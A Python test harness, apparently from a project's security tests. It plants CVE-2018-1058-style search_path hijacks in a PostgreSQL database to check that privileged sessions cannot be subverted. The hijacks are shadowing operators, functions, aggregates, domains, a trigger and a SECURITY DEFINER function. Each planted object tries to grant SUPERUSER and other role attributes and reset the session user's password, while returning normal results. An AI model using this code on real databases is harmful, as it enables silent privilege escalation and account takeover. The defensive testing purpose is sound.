"""A hostile metadata database: code planted by the roles that may write there, which the
collection's own sessions (an admin's, a managed admin's, commander_user's) must never run.

CVE-2018-1058's class (docs/maintaining.md; the design notes' postgresql-facts.md, "Name resolution in a
database others can write to"). In a metadata database three identities can create things:

- ``schema_role``: a plane's login role as it starts there (its ``role`` setting is the schema
  role, which holds USAGE and CREATE on the Airflow schema);
- ``bare_login``: the same session after ``SET ROLE NONE`` (the login role itself);
- ``owner_role``: ``commander_user`` after ``SET ROLE`` to the Deployment's owner role, which owns
  the database (and so, through ``pg_database_owner``, schema ``public``), when it can.

``plant_database`` tries, as each of them, everything below, and records what the server
allowed and what it refused ("where the planter may create them"):

- schemas named after the admins and commander_user, so that ``"$user"`` in a default
  ``search_path`` resolves there before ``public``;
- in ``public`` and in each such schema: operators for every type pair the collection's SQL
  compares (``OPERATOR_PAIRS``: the pairs where ``pg_catalog`` has no exact operator win under
  the default ``search_path``, the others win once ``public`` precedes ``pg_catalog``), and
  functions and aggregates named like the ones its SQL calls (``FUNCTIONS``, ``AGGREGATES``:
  exact-type variants beat ``pg_catalog``'s polymorphic or ``"any"`` ones);
- domains named like the types its SQL casts to without a schema (``DOMAIN_TYPES``: ``text``,
  ``oid``, ...), whose CHECK runs planted code (they win once the planter's schema precedes
  ``pg_catalog`` in a session's path: only the pinned path protects these casts);
- a table with a row trigger (the trigger runs in whatever session writes the table);
- a ``SECURITY DEFINER`` function ``hostile_definer()`` (harmless while the tenant owns it);
- a large object (``lo_create``), which makes the planter own something in the database;
- ``ALTER DATABASE ... SET search_path = "$user", public, pg_catalog`` (the owner may), so that
  same-type operators in ``public`` win too, in every session that does not pin its path.

Every planted function first calls its schema's ``hostile_plant_fired(object)``, which writes
``HOSTILE-PLANT fired: session_user=... current_user=... app=... detail={json}`` to the server
log with ``RAISE LOG`` (kept even when the session rolls back; once per object and statement
per session) and, once per session that is not a plane's own, tries to escalate: make the
planter's login SUPERUSER, CREATEROLE, CREATEDB, REPLICATION, BYPASSRLS, grant it the owner and
killer roles, and set the session user's password. Every planted function then returns what
the ``pg_catalog`` original returns, so that queries go on as if nothing happened.

``fires(server, offset)`` reads those log lines back; ``log_offset(server)`` marks where a step
starts; ``catalog_snapshot(server)`` is what the escalation would change.

An event trigger needs a superuser: not planted.
"""

import json
from pathlib import Path

import psycopg2
from psycopg2 import sql

MARK = "HOSTILE-PLANT fired:"
ACTORS = ("schema_role", "bare_login", "owner_role")
DATABASE_SEARCH_PATH = '"$user", public, pg_catalog'

_EQ = ("=", "<>")
_ORD = ("=", "<>", "<", ">", "<=", ">=")
_MATCH = ("~", "!~", "~~", "!~~")
_ARRAY = ("=", "<>", "@>", "<@", "&&")

# (left type, right type, type both are cast to for the honest answer, operators). The
# collection compares, for example, oid columns with ::regclass and integer literals
# (pg_shdepend.refclassid, dbid IN (0, ...), aclexplode's grantee = 0), name columns with
# text parameters and text[] arrays (= ANY), "char" columns with literals, aclitem arrays.
OPERATOR_PAIRS = (
    ("oid", "regclass", "oid", _ORD),
    ("regclass", "oid", "oid", _ORD),
    ("regclass", "regclass", "oid", _ORD),
    ("oid", "regrole", "oid", _ORD),
    ("regrole", "oid", "oid", _ORD),
    ("regrole", "regrole", "oid", _ORD),
    ("oid", "regnamespace", "oid", _EQ),
    ("oid", "regproc", "oid", _EQ),
    ("oid", "regprocedure", "oid", _EQ),
    ("oid", "regtype", "oid", _EQ),
    ("oid", "integer", "bigint", _ORD),
    ("integer", "oid", "bigint", _ORD),
    ("oid", "bigint", "bigint", _ORD),
    ("oid", "oid", "oid", _ORD),
    ("integer", "integer", "integer", _ORD),
    ("bigint", "integer", "bigint", _ORD),
    ("integer", "bigint", "bigint", _ORD),
    ("bigint", "bigint", "bigint", _ORD),
    ("smallint", "integer", "integer", _ORD),
    ("smallint", "smallint", "smallint", _ORD),
    ("name", "text", "text", _ORD + _MATCH),
    ("text", "name", "text", _ORD),
    ("name", "name", "text", _ORD + _MATCH),
    ("text", "text", "text", _ORD + _MATCH),
    ("name", "varchar", "text", _EQ),
    ("varchar", "name", "text", _EQ),
    ("varchar", "varchar", "text", _ORD + _MATCH),
    ("varchar", "text", "text", _EQ + _MATCH),
    ("text", "varchar", "text", _EQ),
    ('"char"', '"char"', '"char"', _EQ),
    ('"char"', "text", "text", _EQ),
    ("boolean", "boolean", "boolean", _EQ),
    ("aclitem", "aclitem", "aclitem", ("=",)),
    ("aclitem[]", "aclitem[]", "aclitem[]", ("=", "<>", "@>")),
    ("text[]", "text[]", "text[]", _ARRAY),
    ("name[]", "name[]", "name[]", _ARRAY),
    ("name[]", "text[]", "text[]", ("=", "@>", "<@", "&&")),
    ("oid[]", "oid[]", "oid[]", _ARRAY),
)

# Functions the collection's SQL calls (qualified or not: a qualified call is immune, an
# unqualified one is not), as (name, argument types, return type, the pg_catalog call that
# gives the honest answer with $1, $2 ...). Exact types beat pg_catalog's polymorphic
# (anyarray, anyelement) and "any" signatures under the default search_path; the same
# signatures as pg_catalog's win once public precedes pg_catalog.
FUNCTIONS = (
    ("unnest", ("text[]",), "SETOF text", "pg_catalog.unnest($1)"),
    ("unnest", ("name[]",), "SETOF name", "pg_catalog.unnest($1)"),
    ("unnest", ("oid[]",), "SETOF oid", "pg_catalog.unnest($1)"),
    ("unnest", ("integer[]",), "SETOF integer", "pg_catalog.unnest($1)"),
    ("format", ("text",), "text", "pg_catalog.format($1)"),
    ("format", ("text", "text"), "text", "pg_catalog.format($1, $2)"),
    ("format", ("text", "name"), "text", "pg_catalog.format($1, $2)"),
    ("format", ("text", "text", "text"), "text", "pg_catalog.format($1, $2, $3)"),
    ("quote_ident", ("text",), "text", "pg_catalog.quote_ident($1)"),
    ("quote_ident", ("name",), "text", "pg_catalog.quote_ident($1::pg_catalog.text)"),
    ("quote_literal", ("text",), "text", "pg_catalog.quote_literal($1)"),
    ("quote_literal", ("name",), "text", "pg_catalog.quote_literal($1::pg_catalog.text)"),
    ("concat", ("text", "text"), "text", "pg_catalog.concat($1, $2)"),
    ("lower", ("text",), "text", "pg_catalog.lower($1)"),
    ("lower", ("name",), "text", "pg_catalog.lower($1::pg_catalog.text)"),
    ("upper", ("name",), "text", "pg_catalog.upper($1::pg_catalog.text)"),
    ("hashtext", ("text",), "integer", "pg_catalog.hashtext($1)"),
    ("hashtext", ("name",), "integer", "pg_catalog.hashtext($1::pg_catalog.text)"),
    ("current_setting", ("text",), "text", "pg_catalog.current_setting($1)"),
    ("current_setting", ("text", "boolean"), "text", "pg_catalog.current_setting($1, $2)"),
    ("set_config", ("text", "text", "boolean"), "text", "pg_catalog.set_config($1, $2, $3)"),
    ("pg_has_role", ("name", "name", "text"), "boolean", "pg_catalog.pg_has_role($1, $2, $3)"),
    ("pg_has_role", ("oid", "oid", "text"), "boolean", "pg_catalog.pg_has_role($1, $2, $3)"),
    ("pg_has_role", ("name", "text"), "boolean", "pg_catalog.pg_has_role($1, $2)"),
    ("pg_has_role", ("text", "text", "text"), "boolean",
     "pg_catalog.pg_has_role($1::pg_catalog.name, $2::pg_catalog.name, $3)"),
    ("has_database_privilege", ("text", "text", "text"), "boolean",
     "pg_catalog.has_database_privilege($1::pg_catalog.name, $2, $3)"),
    ("has_database_privilege", ("name", "text", "text"), "boolean", "pg_catalog.has_database_privilege($1, $2, $3)"),
    ("has_schema_privilege", ("text", "text", "text"), "boolean",
     "pg_catalog.has_schema_privilege($1::pg_catalog.name, $2, $3)"),
    ("has_function_privilege", ("text", "text", "text"), "boolean",
     "pg_catalog.has_function_privilege($1::pg_catalog.name, $2, $3)"),
    ("has_table_privilege", ("text", "text", "text"), "boolean",
     "pg_catalog.has_table_privilege($1::pg_catalog.name, $2, $3)"),
    ("pg_get_userbyid", ("oid",), "name", "pg_catalog.pg_get_userbyid($1)"),
    ("pg_describe_object", ("oid", "oid", "integer"), "text", "pg_catalog.pg_describe_object($1, $2, $3)"),
    ("shobj_description", ("oid", "name"), "text", "pg_catalog.shobj_description($1, $2)"),
    ("obj_description", ("oid", "name"), "text", "pg_catalog.obj_description($1, $2)"),
    ("to_regrole", ("text",), "regrole", "pg_catalog.to_regrole($1)"),
    ("cardinality", ("text[]",), "integer", "pg_catalog.cardinality($1)"),
    ("cardinality", ("name[]",), "integer", "pg_catalog.cardinality($1)"),
    ("cardinality", ("oid[]",), "integer", "pg_catalog.cardinality($1)"),
    ("array_length", ("text[]", "integer"), "integer", "pg_catalog.array_length($1, $2)"),
    ("array_to_string", ("text[]", "text"), "text", "pg_catalog.array_to_string($1, $2)"),
    ("array_to_string", ("name[]", "text"), "text", "pg_catalog.array_to_string($1, $2)"),
    ("string_to_array", ("text", "text"), "text[]", "pg_catalog.string_to_array($1, $2)"),
    ("split_part", ("text", "text", "integer"), "text", "pg_catalog.split_part($1, $2, $3)"),
    ("json_build_object", ("text", "text"), "json", "pg_catalog.json_build_object($1, $2)"),
    ("jsonb_build_object", ("text", "text"), "jsonb", "pg_catalog.jsonb_build_object($1, $2)"),
    ("now", (), "timestamp with time zone", "pg_catalog.now()"),
    ("clock_timestamp", (), "timestamp with time zone", "pg_catalog.clock_timestamp()"),
    ("pg_backend_pid", (), "integer", "pg_catalog.pg_backend_pid()"),
    ("pg_sleep", ("integer",), "void", "pg_catalog.pg_sleep($1)"),
    ("pg_terminate_backend", ("integer",), "boolean", "pg_catalog.pg_terminate_backend($1)"),
    ("pg_cancel_backend", ("integer",), "boolean", "pg_catalog.pg_cancel_backend($1)"),
    ("pg_advisory_xact_lock", ("integer", "integer"), "void", "pg_catalog.pg_advisory_xact_lock($1, $2)"),
    ("pg_try_advisory_xact_lock", ("integer", "integer"), "boolean", "pg_catalog.pg_try_advisory_xact_lock($1, $2)"),
    ("aclexplode", ("aclitem[]",), "TABLE(grantor oid, grantee oid, privilege_type text, is_grantable boolean)",
     "pg_catalog.aclexplode($1)"),
    ("acldefault", ('"char"', "oid"), "aclitem[]", "pg_catalog.acldefault($1, $2)"),
)

# Aggregates: (name, argument type, state type, initial state or None, honest step with $1 the
# state and $2 the value). count("any") and array_agg(anynonarray) lose to exact types.
AGGREGATES = (
    ("count", "integer", "bigint", "0", "$1 OPERATOR(pg_catalog.+) (CASE WHEN $2 IS NULL THEN 0 ELSE 1 END)"),
    ("count", "oid", "bigint", "0", "$1 OPERATOR(pg_catalog.+) (CASE WHEN $2 IS NULL THEN 0 ELSE 1 END)"),
    ("count", "text", "bigint", "0", "$1 OPERATOR(pg_catalog.+) (CASE WHEN $2 IS NULL THEN 0 ELSE 1 END)"),
    ("count", "name", "bigint", "0", "$1 OPERATOR(pg_catalog.+) (CASE WHEN $2 IS NULL THEN 0 ELSE 1 END)"),
    ("array_agg", "text", "text[]", None, "pg_catalog.array_append($1, $2)"),
    ("array_agg", "name", "name[]", None, "pg_catalog.array_append($1, $2)"),
    ("array_agg", "oid", "oid[]", None, "pg_catalog.array_append($1, $2)"),
    ("bool_or", "boolean", "boolean", None, "$1 OR $2"),
    ("max", "integer", "integer", None, "pg_catalog.int4larger($1, $2)"),
)

_HONEST_OP = {"=": "=", "<>": "<>", "<": "<", ">": ">", "<=": "<=", ">=": ">=", "~": "~", "!~": "!~",
              "~~": "~~", "!~~": "!~~", "@>": "@>", "<@": "<@", "&&": "&&"}


def log_path(server):
    """The server log that scripts/pg.py writes (``<dir>/server.log``)."""
    return Path(server.base) / "server.log"


def log_offset(server):
    """Where the server log ends now: pass it to ``fires`` to read what a step logged."""
    path = log_path(server)
    return path.stat().st_size if path.exists() else 0


def fires(server, offset=0):
    """Every ``HOSTILE-PLANT fired`` line logged since OFFSET, as dicts: session_user,
    current_user, app, planter, object, query (the client's statement, cut at 1000 chars),
    pid (of the backend), line (as logged)."""
    out = []
    with open(str(log_path(server)), "rb") as handle:
        handle.seek(offset)
        text = handle.read().decode("utf-8", errors="replace")
    for line in text.splitlines():
        at = line.find(MARK)
        if at < 0 or " detail=" not in line:
            continue
        try:
            detail = json.loads(line.split(" detail=", 1)[1])
        except ValueError:
            continue
        pid = None
        if "[" in line[:at] and "]" in line[:at]:
            pid = line[:at].rsplit("[", 1)[1].split("]", 1)[0]
        detail.update(pid=pid, line=line)
        out.append(detail)
    return out


def catalog_snapshot(server):
    """What an escalation changes: {role: (attributes held, password hash digest)} and the set
    of memberships (group, member, grantor, admin, inherit, set). Read as the superuser."""
    conn = server.connect()
    try:
        cur = conn.cursor()
        cur.execute("SELECT a.rolname, a.rolsuper, a.rolcreaterole, a.rolcreatedb, a.rolreplication, a.rolbypassrls,"
                    " pg_catalog.md5(COALESCE(a.rolpassword, '')) FROM pg_catalog.pg_authid a")
        roles = {}
        for name, sup, crole, cdb, repl, bypass, password in cur.fetchall():
            held = frozenset(attr for attr, on in (("SUPERUSER", sup), ("CREATEROLE", crole), ("CREATEDB", cdb),
                                                   ("REPLICATION", repl), ("BYPASSRLS", bypass)) if on)
            roles[name] = (held, password)
        cur.execute("SELECT g.rolname, m.rolname, gr.rolname, am.admin_option, am.inherit_option, am.set_option"
                    " FROM pg_catalog.pg_auth_members am"
                    " JOIN pg_catalog.pg_roles g ON g.oid OPERATOR(pg_catalog.=) am.roleid"
                    " JOIN pg_catalog.pg_roles m ON m.oid OPERATOR(pg_catalog.=) am.member"
                    " JOIN pg_catalog.pg_roles gr ON gr.oid OPERATOR(pg_catalog.=) am.grantor")
        members = set(cur.fetchall())
    finally:
        conn.close()
    return {"roles": roles, "memberships": members}


def gains(before, after):
    """What AFTER holds that BEFORE did not (catalog_snapshot results), as readable lines:
    attributes gained (also by a role that did not exist before), memberships gained, and
    passwords changed. Roles and memberships that went away are not gains."""
    out = []
    for role, (held, password) in sorted(after["roles"].items()):
        old_held, old_password = before["roles"].get(role, (frozenset(), None))
        if held - old_held:
            out.append("role %s gained %s" % (role, ", ".join(sorted(held - old_held))))
        if old_password is not None and password != old_password:
            out.append("role %s has a new password" % role)
    for row in sorted(after["memberships"] - before["memberships"]):
        out.append("membership gained: %s granted to %s by %s (admin %s, inherit %s, set %s)" % row)
    return out


# ------------------------------------------------------------------------- the plants

def _lit(value):
    return sql.Literal(value)


def _fired_helper(schema, planter_label, target_login, grab_roles, tenant_logins):
    """The function every plant of SCHEMA calls first: log once per (object, statement) per
    session; once per session that is no plane's own, try to escalate TARGET_LOGIN."""
    body = """
DECLARE
  k text := 'hostile_plant.f' || pg_catalog.abs(pg_catalog.hashtext(p_object || '|' || COALESCE(pg_catalog.current_query(), '')))::text;
  tried text := 'hostile_plant.t' || pg_catalog.abs(pg_catalog.hashtext({label}))::text;
  detail json;
  grab text;
  attr text;
BEGIN
  IF COALESCE(pg_catalog.current_setting(k, true), '') OPERATOR(pg_catalog.=) '' THEN
    PERFORM pg_catalog.set_config(k, '1', false);
    detail := pg_catalog.json_build_object(
      'session_user', SESSION_USER::text, 'current_user', CURRENT_USER::text,
      'app', pg_catalog.current_setting('application_name'), 'planter', {label}::text,
      'object', p_object, 'database', pg_catalog.current_database()::text,
      'query', pg_catalog.left(COALESCE(pg_catalog.current_query(), ''), 1000));
    RAISE LOG 'HOSTILE-PLANT fired: session_user=% current_user=% app=% detail=%',
      SESSION_USER, CURRENT_USER, pg_catalog.current_setting('application_name'), detail;
  END IF;
  IF NOT (SESSION_USER::text OPERATOR(pg_catalog.=) ANY ({tenants}::text[]))
     AND COALESCE(pg_catalog.current_setting(tried, true), '') OPERATOR(pg_catalog.=) '' THEN
    PERFORM pg_catalog.set_config(tried, '1', false);
    FOREACH attr IN ARRAY ARRAY['SUPERUSER', 'CREATEROLE', 'CREATEDB', 'REPLICATION', 'BYPASSRLS'] LOOP
      BEGIN
        EXECUTE pg_catalog.format('ALTER ROLE %I %s', {target}::text, attr);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END LOOP;
    FOREACH grab IN ARRAY {grab}::text[] LOOP
      BEGIN
        EXECUTE pg_catalog.format('GRANT %I TO %I', grab, {target}::text);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END LOOP;
    BEGIN
      EXECUTE pg_catalog.format('ALTER ROLE %I PASSWORD %L', SESSION_USER::text, 'taken-over-by-a-hostile-plant');
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END IF;
END
"""
    body = sql.SQL(body).format(label=_lit(planter_label), tenants=_lit(list(tenant_logins)),
                                target=_lit(target_login), grab=_lit(list(grab_roles)))
    return sql.SQL("CREATE FUNCTION {s}.hostile_plant_fired(p_object text) RETURNS void LANGUAGE plpgsql"
                   " SET search_path = pg_catalog, pg_temp AS {body}").format(
        s=sql.Identifier(schema), body=_Dollar(body))


class _Dollar(sql.Composable):
    """A function body (itself composed) between dollar quotes."""

    def __init__(self, inner):
        super(_Dollar, self).__init__(inner)

    def as_string(self, context):
        text = self._wrapped.as_string(context)
        tag = "$hostile$"
        assert tag not in text
        return tag + text + tag


def _announce(schema, label):
    return sql.SQL("PERFORM {s}.hostile_plant_fired({label});").format(s=sql.Identifier(schema), label=_lit(label))


def _function_plants(schema):
    """[(label, [statements])] for FUNCTIONS and AGGREGATES in SCHEMA."""
    out = []
    for name, args, returns, honest in FUNCTIONS:
        label = "function %s.%s(%s)" % (schema, name, ", ".join(args))
        if returns.startswith("SETOF") or returns.startswith("TABLE"):
            body = sql.SQL("BEGIN {announce} RETURN QUERY SELECT * FROM " + honest + "; END").format(
                announce=_announce(schema, label))
        elif returns == "void":
            body = sql.SQL("BEGIN {announce} PERFORM " + honest + "; END").format(announce=_announce(schema, label))
        else:
            body = sql.SQL("BEGIN {announce} RETURN " + honest + "; END").format(announce=_announce(schema, label))
        stmt = sql.SQL("CREATE FUNCTION {s}.{n}(" + ", ".join(args) + ") RETURNS " + returns
                       + " LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS {body}").format(
            s=sql.Identifier(schema), n=sql.Identifier(name), body=_Dollar(body))
        out.append((label, [stmt]))
    for index, (name, arg, state, init, step) in enumerate(AGGREGATES):
        label = "aggregate %s.%s(%s)" % (schema, name, arg)
        sfunc = sql.Identifier("hostile_agg_step_%d" % index)
        body = sql.SQL("BEGIN {announce} RETURN " + step + "; END").format(announce=_announce(schema, label))
        fn = sql.SQL("CREATE FUNCTION {s}.{f}(" + state + ", " + arg + ") RETURNS " + state
                     + " LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS {body}").format(
            s=sql.Identifier(schema), f=sfunc, body=_Dollar(body))
        initcond = sql.SQL("") if init is None else sql.SQL(", INITCOND = {}").format(_lit(init))
        agg = sql.SQL("CREATE AGGREGATE {s}.{n}(" + arg + ") (SFUNC = {s}.{f}, STYPE = " + state + "{init})").format(
            s=sql.Identifier(schema), n=sql.Identifier(name), f=sfunc, init=initcond)
        out.append((label, [fn, agg]))
    return out


def _operator_plants(schema):
    """[(label, [statements])] for OPERATOR_PAIRS in SCHEMA."""
    out = []
    index = 0
    for left, right, common, ops in OPERATOR_PAIRS:
        for op in ops:
            index += 1
            label = "operator %s.%s(%s, %s)" % (schema, op, left, right)
            fn = sql.Identifier("hostile_op_%d" % index)
            body = sql.SQL("BEGIN {announce} RETURN $1::" + common + " OPERATOR(pg_catalog." + _HONEST_OP[op]
                           + ") $2::" + common + "; END").format(announce=_announce(schema, label))
            create_fn = sql.SQL("CREATE FUNCTION {s}.{f}(" + left + ", " + right + ") RETURNS boolean"
                                " LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS {body}").format(
                s=sql.Identifier(schema), f=fn, body=_Dollar(body))
            create_op = sql.SQL("CREATE OPERATOR {s}." + op + " (LEFTARG = " + left + ", RIGHTARG = " + right
                                + ", FUNCTION = {s}.{f})").format(s=sql.Identifier(schema), f=fn)
            out.append((label, [create_fn, create_op]))
    return out


# Type names the collection's SQL casts to without a schema (``::text``, ``::oid``, ...): a
# domain of that name whose CHECK runs planted code. It wins where a session's search_path
# lists the planter's schema before pg_catalog (the database default path planted below);
# only the pinned path keeps such casts on pg_catalog's types. (``int``, ``integer``, ``bigint``
# and ``boolean`` are keywords that name pg_catalog's types directly.)
DOMAIN_TYPES = ("text", "name", "oid", "regclass", "regrole", "int4", "bool", "jsonb", "pg_lsn")


def _domain_plants(schema):
    """[(label, [statements])]: a domain for each of DOMAIN_TYPES in SCHEMA, checked by planted code."""
    out = []
    for index, typ in enumerate(DOMAIN_TYPES):
        label = "domain %s.%s" % (schema, typ)
        check = sql.Identifier("hostile_domain_check_%d" % index)
        body = sql.SQL("BEGIN {announce} RETURN true; END").format(announce=_announce(schema, label))
        fn = sql.SQL("CREATE FUNCTION {s}.{f}(pg_catalog." + typ + ") RETURNS pg_catalog.bool"
                     " LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS {body}").format(
            s=sql.Identifier(schema), f=check, body=_Dollar(body))
        domain = sql.SQL("CREATE DOMAIN {s}.{t} AS pg_catalog." + typ + " CHECK ({s}.{f}(VALUE))").format(
            s=sql.Identifier(schema), t=sql.Identifier(typ), f=check)
        out.append((label, [fn, domain]))
    return out


def _table_plants(schema, target_login):
    """A table with a row trigger, and a SECURITY DEFINER function, in SCHEMA."""
    trig_label = "trigger %s.hostile_trigger_target" % schema
    trig_body = sql.SQL("BEGIN {announce} RETURN COALESCE(NEW, OLD); END").format(
        announce=_announce(schema, trig_label))
    definer_label = "security definer %s.hostile_definer()" % schema
    definer_body = sql.SQL("""BEGIN {announce}
  BEGIN EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', {target}::text); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE pg_catalog.format('ALTER ROLE %I CREATEROLE', {target}::text); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE pg_catalog.format('ALTER ROLE %I CREATEDB', {target}::text); EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN CURRENT_USER::text;
END""").format(announce=_announce(schema, definer_label), target=_lit(target_login))
    s = sql.Identifier(schema)
    return [
        (trig_label, [
            sql.SQL("CREATE TABLE {s}.hostile_trigger_target (id integer, note text)").format(s=s),
            sql.SQL("CREATE FUNCTION {s}.hostile_trigger_fn() RETURNS trigger LANGUAGE plpgsql"
                    " SET search_path = pg_catalog, pg_temp AS {body}").format(s=s, body=_Dollar(trig_body)),
            sql.SQL("CREATE TRIGGER hostile_trigger BEFORE INSERT OR UPDATE OR DELETE ON {s}.hostile_trigger_target"
                    " FOR EACH ROW EXECUTE FUNCTION {s}.hostile_trigger_fn()").format(s=s),
        ]),
        (definer_label, [
            sql.SQL("CREATE FUNCTION {s}.hostile_definer() RETURNS text LANGUAGE plpgsql SECURITY DEFINER"
                    " SET search_path = pg_catalog, pg_temp AS {body}").format(s=s, body=_Dollar(definer_body)),
        ]),
    ]


class Plant(object):
    """What one planter tried in one database, and what the server answered."""

    def __init__(self, database, actor, role, label, ok, error=None):
        self.database, self.actor, self.role, self.label, self.ok, self.error = \
            database, actor, role, label, ok, error

    def __repr__(self):
        outcome = "planted" if self.ok else "refused: %s" % self.error
        return "<%s %s as %s (%s): %s>" % (self.database, self.label, self.actor, self.role, outcome)


def _attempt(conn, statements):
    """Run STATEMENTS under a savepoint; (True, None) or (False, the server's first line)."""
    cur = conn.cursor()
    cur.execute("SAVEPOINT hostile_plant")
    try:
        for statement in statements:
            cur.execute(statement)
    except psycopg2.Error as exc:
        cur.execute("ROLLBACK TO SAVEPOINT hostile_plant")
        return False, (str(exc).strip().splitlines() or ["?"])[0]
    cur.execute("RELEASE SAVEPOINT hostile_plant")
    return True, None


def _plant_code(conn, schema, planter_label, target_login, grab_roles, tenant_logins):
    """Everything above in SCHEMA: the whole set in one go when the server takes it, else one
    object at a time (the objects another planter already made there are refused)."""
    plants = [("helper %s.hostile_plant_fired(text)" % schema,
               [_fired_helper(schema, planter_label, target_login, grab_roles, tenant_logins)])]
    plants += (_operator_plants(schema) + _function_plants(schema) + _table_plants(schema, target_login)
               + _domain_plants(schema))
    done, error = _attempt(conn, [s for dummy, statements in plants for s in statements])
    if done:
        return [(label, True, None) for label, dummy in plants]
    results = []
    helper_ok, helper_error = _attempt(conn, plants[0][1])
    results.append((plants[0][0], helper_ok, helper_error))
    if not helper_ok and "already exists" not in (helper_error or ""):
        # no CREATE on the schema: the rest would be refused for the same reason
        return results + [(label, False, helper_error) for label, dummy in plants[1:]]
    for label, statements in plants[1:]:
        ok, error = _attempt(conn, statements)
        results.append((label, ok, error))
    return results


def plant_database(server, database, logins, schema_role, owner_role, commander, admin_names,
                   killer_role=None, actors=ACTORS, plane="dp1"):
    """Plant in DATABASE as each of ACTORS (see the module's docstring); return [Plant].

    LOGINS: {plane: login role} of the Deployment (the planes' own sessions are the tenants':
    nothing escalates there); PLANE: whose login plants as ``schema_role`` and ``bare_login``.
    ADMIN_NAMES: the admins (e.g. "postgres", a managed admin) whose "$user" schema to create;
    COMMANDER gets one too, and plants as ``owner_role``. The escalation targets the planter's
    login (the plane's login role, or COMMANDER) and grabs OWNER_ROLE and KILLER_ROLE.
    """
    tenants = sorted(logins.values())
    grab = [r for r in (owner_role, killer_role) if r]
    done = []
    for actor in actors:
        login = commander if actor == "owner_role" else logins[plane]
        conn = server.connect(user=login, dbname=database, autocommit=False)
        try:
            cur = conn.cursor()
            expected = {"schema_role": schema_role, "bare_login": login, "owner_role": owner_role}[actor]
            if actor == "bare_login":
                cur.execute("SET ROLE NONE")
            elif actor == "owner_role":
                ok, error = _attempt(conn, [sql.SQL("SET ROLE {}").format(sql.Identifier(owner_role))])
                if not ok:
                    done.append(Plant(database, actor, login, "SET ROLE %s" % owner_role, False, error))
                    continue
            cur.execute("SELECT CURRENT_USER::text")
            role = cur.fetchone()[0]
            if role != expected:
                done.append(Plant(database, actor, role, "act as %s" % expected, False, "session is %s" % role))
                continue
            label = "%s as %s (login %s)" % (actor, role, login)
            schemas = ["public"]
            for name in list(admin_names) + [commander]:
                ok, error = _attempt(conn, [sql.SQL("CREATE SCHEMA {}").format(sql.Identifier(name))])
                done.append(Plant(database, actor, role, "schema %s" % name, ok, error))
                if ok:
                    schemas.append(name)
            for schema in schemas:
                for what, ok, error in _plant_code(conn, schema, label, login, grab, tenants):
                    done.append(Plant(database, actor, role, what, ok, error))
            ok, error = _attempt(conn, ["SELECT pg_catalog.lo_create(0)"])
            done.append(Plant(database, actor, role, "large object", ok, error))
            ok, error = _attempt(conn, [sql.SQL("ALTER DATABASE {} SET search_path = " + DATABASE_SEARCH_PATH).format(
                sql.Identifier(database))])
            done.append(Plant(database, actor, role, "database search_path %s" % DATABASE_SEARCH_PATH, ok, error))
            conn.commit()
        finally:
            conn.close()
    return done


def planted(plants, actor=None, label_start=""):
    """The labels of PLANTS that the server allowed (optionally of one ACTOR, starting so)."""
    return [p.label for p in plants if p.ok and (actor is None or p.actor == actor) and p.label.startswith(label_start)]
